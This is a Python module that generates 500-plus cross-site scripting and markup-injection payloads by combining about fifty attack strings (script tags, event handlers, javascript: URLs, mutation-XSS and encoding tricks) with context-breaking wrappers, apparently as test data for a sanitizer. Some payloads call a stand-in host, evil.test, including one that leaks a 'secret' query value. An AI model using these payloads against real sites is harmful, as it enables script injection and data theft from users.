"""Text that would run, fetch or lead astray if anybody took it for markup: 500 and more.

Each is a way to smuggle (how it begins and ends) around a way to strike.
"""

from itertools import product

_RUN = "alert(1)"
_EVIL = "http://evil.test/x"

_STRIKES = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script href=data:,{_RUN}></script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_EVIL}.swf>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={_EVIL} onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<link rel=stylesheet href={_EVIL}>",
    f"<style>@import '{_EVIL}';</style>",
    f"<div style='background:url({_EVIL})'>",
    f"<base href={_EVIL}/>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<wherein-widget endpoint={_EVIL}></wherein-widget>",
    f"<img srcset='{_EVIL} 1x'>",
    f"[x](javascript:{_RUN})",
    f"![x]({_EVIL}?q=secret)",
    f"[x]: {_EVIL}",
    f"<{_EVIL}>",
    f"javascript:{_RUN}//",
    f"java\tscript:{_RUN}",
    f"data:text/html;base64,PHNjcmlwdD5{_RUN}",
    f"vbscript:{_RUN}",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f'"-{_RUN}-"',
    f"';{_RUN};//",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{_RUN}'>",
    f"<x onclick={_RUN} tabindex=1 id=x>#x",
    f"<ＳＣＲＩＰＴ>{_RUN}</ＳＣＲＩＰＴ>",
    f"\u202e<tpircs>{_RUN}\u202c",
    f"<scr\0ipt>{_RUN}</scr\0ipt>",
)

_WRAPPINGS = (
    ("", ""),
    ("</p></div></dialog>", ""),
    ("\"'>", "<\"'"),
    ("</script>", "<script>"),
    ("<!--", "-->"),
    ("]]>", "<![CDATA["),
    ("\x1b\u2028\ufeff", "\u2029"),
    ("😀 é ", " 👩\u200d👧"),
    ("</textarea></title></style>", "<plaintext>"),
    ("data: x event: done ", " id: 1"),
)

PAYLOADS = [f"{begin}{strike}{end}" for strike, (begin, end) in product(_STRIKES, _WRAPPINGS)]
